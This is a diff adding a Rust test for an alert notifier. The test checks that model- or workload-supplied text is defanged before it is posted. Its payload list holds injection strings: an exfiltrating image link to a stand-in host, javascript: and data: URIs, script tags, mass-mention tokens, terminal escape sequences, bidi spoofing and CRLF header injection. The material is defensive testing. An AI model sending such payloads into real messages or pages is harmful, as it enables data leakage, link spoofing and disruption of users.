@@ -94,6 +94,96 @@ async fn the_channel_passes_its_conformance_suite() {
     check_notifier(&notifier, sent, &["<script", "<http", "](http", "<!channel>"]).await.unwrap();
 }
 
+/// What a model, a log line or a label may hold, and a receiver would render or open.
+const PAYLOADS: [&str; 20] = [
+    "<https://evil.example/x|the runbook>",
+    "![x](https://evil.example/?q=secret)",
+    "[click](javascript:alert(1))",
+    "see http://evil.com now",
+    "WWW.evil.ru/a",
+    "ask mailto:a@evil.io",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "@here @channel @everyone",
+    "<!channel> <!here|now> <@U123ABC>",
+    "<script>alert('x')</script>",
+    "\" onload=\"x() <img src=x>",
+    "<a href=//evil.example>x</a>",
+    "\u{1b}]8;;https://evil.example\u{1b}\\runbook\u{1b}]8;;\u{1b}\\",
+    "\u{1b}[31mred\u{1b}[0m",
+    "\u{9b}2Jcleared",
+    "gnp\u{202e}.exe",
+    "fail\u{200b}over \u{e0061}",
+    "one\r\nX-Header: two",
+    "tel:112 sms:112 file:///etc/passwd",
+    "evil.example/login?next=https%3A%2F%2Fx",
+];
+
+#[tokio::test]
+async fn no_text_of_a_model_or_a_workload_becomes_a_link_a_mention_or_a_sequence() {
+    const RENDERED: [&str; 19] = [
+        "://",
+        "<",
+        ">",
+        "](",
+        "@",
+        "javascript:",
+        "mailto:",
+        "data:",
+        "tel:",
+        "sms:",
+        "file:",
+        "evil.example",
+        "evil.com",
+        "evil.ru",
+        "evil.io",
+        "WWW.evil",
+        "\n",
+        "\u{1b}",
+        "\u{9b}",
+    ];
+    let clock = ManualClock::default();
+    let (double, notifier, _keep_open) = taken(&clock).await;
+    for payload in PAYLOADS {
+        let mut triaged = samples::triaged(event(&clock, Severity::Warning), &["restart_pod"]);
+        triaged.report.summary = payload.to_owned();
+        triaged.report.likely_causes = vec![payload.to_owned(), format!("x {payload}")];
+        triaged.report.recommended_actions = vec![payload.to_owned()];
+        let reported = NoticeKind::Updated { triaged: Some(Box::new(triaged)), response: None };
+        let asked = NoticeKind::Escalated { reason: payload.to_owned(), response: None };
+        let held = NoticeKind::Announced { held: 1, reason: Some(payload.to_owned()) };
+        for kind in [held, reported, asked] {
+            let mut notice = notice(&clock, Severity::Warning, kind);
+            notice.explain = payload.to_owned();
+            notifier.notify(&notice, None).await.unwrap();
+        }
+        let sent = posted(&double).concat().pop().unwrap();
+        for name in ["summary", "triage", "likely_causes", "recommended_actions", "reason", "escalated"] {
+            let text = &sent.annotations[name];
+            for mark in RENDERED {
+                assert!(!text.contains(mark), "{payload:?}: {mark:?} in {name}: {text:?}");
+            }
+            let hidden = |c: char| {
+                c.is_control()
+                    || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{e0000}'..='\u{e007f}')
+            };
+            assert!(!text.chars().any(hidden), "{payload:?} in {name}: {text:?}");
+            assert!(!text.is_empty(), "{payload:?}: {name}");
+        }
+    }
+    // What people read stays readable, and a name that routes go by stays the name.
+    let mut plain = notice(&clock, Severity::Warning, escalated());
+    plain.incident_id = "inc-plain".into();
+    plain.event.service = "shop.example.com".into();
+    plain.explain = "restart_pod of checkout-7d9f: 0.85 s (v2.1.0), see https://runbooks.internal/x".to_owned();
+    notifier.notify(&plain, None).await.unwrap();
+    let sent = posted(&double).concat().pop().unwrap();
+    assert_eq!(sent.labels["service"], "shop.example.com");
+    assert_eq!(
+        sent.annotations["summary"],
+        "restart_pod of checkout-7d9f: 0.85 s (v2.1.0), see https[:]//runbooks.internal/x"
+    );
+}
+
 #[tokio::test]
 async fn announcement_report_escalation_and_resolve_are_one_alert() {
     let clock = ManualClock::default();
